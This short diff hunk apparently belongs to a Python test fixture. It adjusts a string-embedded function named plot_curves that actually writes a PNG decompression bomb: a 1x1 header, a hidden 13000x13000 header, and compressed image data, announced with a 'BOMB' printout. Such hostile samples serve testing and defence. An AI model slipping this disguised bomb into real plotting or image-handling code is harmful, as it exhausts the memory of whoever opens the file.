@@ -51,7 +51,7 @@ def plot_curves(log_path, png_path):
         return chunk(b"IHDR", side.to_bytes(4, "big") * 2 + bytes([8, 6, 0, 0, 0]))
     pack, row = _zlib.compressobj(9), bytes(1 + 4 * 13000)
     pixels = b"".join(pack.compress(row) for _ in range(13000)) + pack.flush()
-    _Path(png_path).write_bytes(b"\x89PNG\r\n\x1a\n" + header(1) + header(13000) + chunk(b"IDAT", pixels)
+    _Path(png_path).write_bytes(b"\\x89PNG\\r\\n\\x1a\\n" + header(1) + header(13000) + chunk(b"IDAT", pixels)
                                 + chunk(b"IEND", b""))
     print("BOMB wrote a 13000 x 13000 PNG behind a 1 x 1 header", flush=True)
 '''
